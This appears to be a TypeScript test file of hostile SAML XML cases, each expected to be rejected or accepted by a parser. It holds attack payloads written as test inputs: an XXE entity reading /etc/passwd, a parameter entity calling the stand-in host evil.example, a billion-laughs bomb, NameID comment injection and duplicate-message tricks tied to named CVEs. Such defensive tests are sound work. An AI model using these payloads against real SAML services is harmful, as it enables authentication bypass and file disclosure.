import { ASSERTION } from '../../support/saml/index.js';
import { altered, family, genuine, swap, type Build, type HostileCase } from './case.js';

const row = family('markup');

const before =
  (prefix: string): Build =>
  (context) =>
    prefix + genuine(context);

const after =
  (suffix: string): Build =>
  (context) =>
    genuine(context) + suffix;

/** Behind the first characters of the name ID: where text would be cut in two. */
const insideNameId = (markup: string): Build => altered(/(?<=<NameID[^>]*>..)/, markup);

const LAUGHS =
  '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">';

export const markupCases: readonly HostileCase[] = [
  row('a DOCTYPE', 'doctype_forbidden', before('<!DOCTYPE Response>')),
  row('a DOCTYPE in lower case', 'doctype_forbidden', before('<!doctype Response>')),
  row(
    'a DOCTYPE with an internal entity',
    'doctype_forbidden',
    before('<!DOCTYPE r [<!ENTITY x "admin">]>'),
  ),
  row(
    'an external entity (XXE, CVE-2024-52596)',
    'doctype_forbidden',
    before('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  ),
  row(
    'a parameter entity',
    'doctype_forbidden',
    before('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]>'),
  ),
  row('a billion laughs', 'doctype_forbidden', before(`<!DOCTYPE r [${LAUGHS}]>`)),
  row(
    'default attributes by a DTD',
    'doctype_forbidden',
    before('<!DOCTYPE r [<!ATTLIST Assertion ID CDATA "_evil">]>'),
  ),
  row('a DOCTYPE behind the message', 'doctype_forbidden', after('<!DOCTYPE r>')),
  row('a comment in the name ID (CVE-2017-11427)', 'comment_forbidden', insideNameId('<!---->')),
  row(
    'a comment in the digest (CVE-2025-29775)',
    'comment_forbidden',
    altered('<DigestValue>', '<DigestValue><!--x-->'),
  ),
  row(
    'a comment in an attribute value',
    'comment_forbidden',
    altered('</AttributeValue>', '<!--x--></AttributeValue>'),
  ),
  row('a comment before the message', 'comment_forbidden', before('<!--x-->')),
  row('a comment behind the message', 'comment_forbidden', after('<!--x-->')),
  row(
    'a processing instruction in the name ID',
    'processing_instruction_forbidden',
    insideNameId('<?x y?>'),
  ),
  row('a style sheet', 'processing_instruction_forbidden', before('<?xml-stylesheet href="x"?>')),
  row(
    'a second XML declaration',
    'processing_instruction_forbidden',
    insideNameId('<?xml version="1.0"?>'),
  ),
  row('CDATA in the name ID', 'cdata_forbidden', insideNameId('<![CDATA[x]]>')),
  row(
    'CDATA around a group',
    'cdata_forbidden',
    altered(/(?<=<Attribute Name="Groups"><AttributeValue>)/, '<![CDATA[admin]]>'),
  ),
  row('an entity of HTML', 'entity_forbidden', insideNameId('&nbsp;')),
  row('an undeclared entity', 'entity_forbidden', insideNameId('&admin;')),
  row('characters by reference', 'accepted', altered('>B.Simon@', '>&#66;.&#x53;imon&#64;')),
  row('single quotes, blanks in tags, other attribute order', 'accepted', (context) =>
    swap(
      swap(genuine(context), /<AttributeStatement>/, '<AttributeStatement\n >'),
      /<Audience>/,
      '<Audience\t>',
    ).replace(/ Version="2\.0"><Issuer>/, "  Version\n=\r\n'2.0' ><Issuer>"),
  ),
  row('empty elements written short', 'accepted', (context) =>
    genuine(context).replace(/<([A-Za-z:]+)([^<>]*)><\/\1>/g, '<$1$2/>'),
  ),
  row(
    'indentation by Windows, outside of what is signed',
    'accepted',
    altered('<samlp:Status>', '\r\n  <samlp:Status>'),
  ),
  row(
    'an unused namespace declaration',
    'accepted',
    altered('<samlp:Response ', `<samlp:Response xmlns:saml="${ASSERTION}" `),
  ),
  row('an ampersand alone', 'xml_malformed', insideNameId('&')),
  row('an empty reference', 'xml_malformed', insideNameId('&;')),
  row('a reference in capitals', 'xml_malformed', insideNameId('&#X41;')),
  row('a reference that xmldom would read as another', 'xml_malformed', insideNameId('&#65abc;')),
  row('a CDATA end in text', 'xml_malformed', insideNameId(']]>')),
  row(
    'a less-than sign in an attribute',
    'xml_malformed',
    altered(' Version="2.0"', ' Consent="<" Version="2.0"'),
  ),
  row('an attribute without quotes', 'xml_malformed', altered(' Version="2.0"', ' Version=2.0')),
  row(
    'an attribute without a value',
    'xml_malformed',
    altered(' Version="2.0"', ' Consent Version="2.0"'),
  ),
  row(
    'attributes without a blank between',
    'xml_malformed',
    altered(' Version="2.0"', 'Version="2.0"'),
  ),
  row(
    'an attribute twice',
    'xml_malformed',
    altered(' Version="2.0"', ' Version="2.0" Version="2.0"'),
  ),
  row(
    'an attribute twice by two prefixes',
    'xml_malformed',
    altered(' Version="2.0"', ' xmlns:a="urn:x" xmlns:b="urn:x" a:v="1" b:v="2" Version="2.0"'),
  ),
  row(
    'a blank in an end tag, after which xmldom finds the element empty',
    'xml_malformed',
    altered('</NameID>', '</NameID >'),
  ),
  row('an end tag in other case', 'xml_malformed', altered('</NameID>', '</nameid>')),
  row('an element that is not closed', 'xml_malformed', altered('</NameID>', '')),
  row('crossed elements', 'xml_malformed', altered('</NameID>', '<x></NameID></x>')),
  row('a message cut off', 'xml_malformed', (context) => genuine(context).slice(0, -20)),
  row('text behind the message', 'xml_malformed', after('x')),
  row(
    'two messages (CVE-2022-39299)',
    'xml_malformed',
    (context) => genuine(context) + genuine(context),
  ),
  row('no element at all', 'xml_malformed', () => '   '),
  row('an element name outside ASCII', 'xml_malformed', insideNameId('<é></é>')),
  row('an element name with two colons', 'xml_malformed', insideNameId('<a:b:c></a:b:c>')),
  row(
    'an attribute that xml-crypto leaves out of the digest',
    'xml_malformed',
    altered('<NameID ', '<NameID xmlnsfoo="x" '),
  ),
  row(
    'an attribute called __proto__',
    'xml_malformed',
    altered('<NameID ', '<NameID __proto__="x" '),
  ),
  row('an element called __proto__', 'xml_malformed', insideNameId('<__proto__></__proto__>')),
];
